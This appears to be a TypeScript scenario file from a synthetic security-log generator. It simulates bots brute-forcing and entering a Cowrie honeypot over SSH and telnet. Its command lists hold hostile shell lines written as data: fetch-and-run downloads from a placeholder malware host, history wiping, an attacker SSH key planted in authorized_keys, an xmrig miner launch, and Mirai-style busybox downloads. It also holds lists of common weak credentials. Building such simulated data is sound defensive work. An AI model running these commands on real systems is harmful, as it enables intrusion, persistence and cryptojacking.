import {Border} from "../observe/border.js";
import {clientPort, knock} from "../observe/connection.js";
import {type Credential, cowrieSession, type Script} from "../observe/honeypot-log.js";
import {Random} from "../random.js";
import type {AttackType} from "../record.js";
import {arrivals, shareOfWeek, waveRhythm} from "../rhythm.js";
import type {Scenario, ScenarioContext} from "../scenario.js";
import {signatures} from "../signatures.js";
import {type Bot, honeypot} from "../world.js";

/** SSH clients that bots are built on. The HASSH values are invented, one per client. */
const clients = [
  {software: "SSH-2.0-libssh2_1.11.1", weight: 18},
  {software: "SSH-2.0-Go", weight: 40},
  {software: "SSH-2.0-libssh_0.9.6", weight: 14},
  {software: "SSH-2.0-paramiko_3.4.0", weight: 10},
  {software: "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.13", weight: 7},
  {software: "SSH-2.0-PUTTY", weight: 6},
  {software: "SSH-2.0-ZGrab ZGrab SSH Survey", weight: 5}
].map((client, i) => ({...client, hassh: new Random(7000 + i).hex(32)}));

const usernames =
  "root root root root admin user ubuntu test oracle postgres git pi guest deploy hadoop ftpuser".split(" ");
const passwords =
  "123456 admin root password 1234 12345678 P@ssw0rd qwerty 1q2w3e4r test 111111 toor raspberry changeme abc123".split(
    " "
  );

/** Shell visits, by what the visitor came for. `%u` is the address it downloads from. */
const visits: readonly {
  weight: number;
  attack_type: AttackType;
  protocol: "ssh" | "telnet";
  fails: number;
  enters: boolean;
  commands: readonly string[];
  downloads: boolean;
  tunnels: boolean;
}[] = [
  visit(22, "Reconnaissance", "ssh", 0, []),
  visit(46, "Brute Force", "ssh", 2.4, []),
  visit(7, "Brute Force", "ssh", 0.6, ["uname -a"]),
  visit(6, "Reconnaissance", "ssh", 0.4, [
    "uname -s -v -n -r -m",
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem",
    "crontab -l",
    "w",
    "lscpu | grep Model"
  ]),
  visit(
    5,
    "Malware",
    "ssh",
    0.5,
    [
      "cd /tmp || cd /var/run || cd /mnt",
      "wget %u/bins.sh; curl -O %u/bins.sh; chmod 777 bins.sh; sh bins.sh",
      "rm -rf bins.sh",
      "history -c"
    ],
    true
  ),
  visit(
    3,
    "Malware",
    "ssh",
    0.3,
    [
      "cd ~; chattr -ia .ssh; lockr -ia .ssh",
      'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAAexample bot">>.ssh/authorized_keys',
      "nproc",
      "%u/xmrig -o pool.miner.example:3333 -u wallet --background"
    ],
    true
  ),
  visit(
    9,
    "Malware",
    "telnet",
    1.2,
    [
      "enable",
      "system",
      "shell",
      "sh",
      "/bin/busybox MIRAI",
      "cat /proc/mounts; /bin/busybox PEKPA",
      "/bin/busybox wget %u/mips -O -> .t; chmod 777 .t; ./.t telnet"
    ],
    true
  ),
  {...visit(2, "Reconnaissance", "ssh", 0, []), enters: true, tunnels: true}
];

/** Bots that log in to the T-Pot's Cowrie all week, and the alerts that the border's Suricata raises about some. */
export const honeypotShell: Scenario = {
  name: "honeypot-shell",
  title: "Bots on the honeypot's SSH and telnet",
  attack_type: null,
  hours: 24,
  run(context) {
    const {random, from, to, world, emit} = context;
    const bots = world.bots.filter(bot => bot.kind !== "services");
    const count = 6700 * context.scale * shareOfWeek(from, to, waveRhythm);
    for (const time of arrivals(random, from, to, count, waveRhythm)) {
      const bot = random.weighted(bots);
      const {attack_type, protocol, ...habit} = random.weighted(visits);
      const {software, hassh} = clientOf(bot);
      const visitor = {
        time,
        address: bot.address,
        port: clientPort(random),
        protocol,
        software,
        hassh
      };
      cowrieSession(random, emit, attack_type, visitor, script(context, bot, habit));
      if (random.chance(0.22)) watch(context, time, bot, protocol === "ssh" ? 22 : 23, attack_type);
    }
  }
};

function visit(
  weight: number,
  attack_type: AttackType,
  protocol: "ssh" | "telnet",
  fails: number,
  commands: readonly string[],
  downloads = false
): (typeof visits)[number] {
  return {
    weight,
    attack_type,
    protocol,
    fails,
    enters: commands.length > 0,
    commands,
    downloads,
    tunnels: false
  };
}

function script(
  {random}: ScenarioContext,
  bot: Bot,
  habit: {fails: number; enters: boolean; commands: readonly string[]; downloads: boolean; tunnels: boolean}
): Script {
  const credential = (): Credential => ({username: random.pick(usernames), password: random.pick(passwords)});
  const url = `http://drop${bot.client % 9}.malware.example`;
  return {
    failed: Array.from({length: random.poisson(habit.fails)}, credential),
    succeeded: habit.enters ? credential() : null,
    commands: habit.commands.map(command => command.replaceAll("%u", url)),
    download: habit.downloads
      ? {url: `${url}/bins.sh`, shasum: new Random(9000 + (bot.client % 9)).hex(64)}
      : null,
    tunnel: habit.tunnels ? {host: "www.searchly.example", port: random.pick([80, 443, 25])} : null
  };
}

/** A bot keeps its client all week. The weights add up to 100, and `bot.client` is uniform below that. */
function clientOf(bot: Bot): {software: string; hassh: string} {
  let bound = 0;
  for (const client of clients) {
    bound += client.weight;
    if (bot.client < bound) return client;
  }
  throw new RangeError(`invalid client: ${bot.client}; expected 0 to 99`);
}

/** The border only alerts on traffic to the sensor: T-Pot records the sessions itself. */
function watch(
  {random, emit}: ScenarioContext,
  time: number,
  bot: Bot,
  port: number,
  attack_type: AttackType
): void {
  const border = new Border(random, emit, {attack_type, campaign: null});
  const ends = {client: bot.address, clientPort: clientPort(random), server: honeypot, serverPort: port};
  const connection = {
    start: time,
    ...ends,
    transport: "TCP" as const,
    app: "failed",
    ...knock(random, "refused")
  };
  const alert = random.pick([signatures.cins, signatures.dshield, signatures.sshScan]);
  border.alert({id: random.bits() * 1024, connection}, alert, time + 20);
}
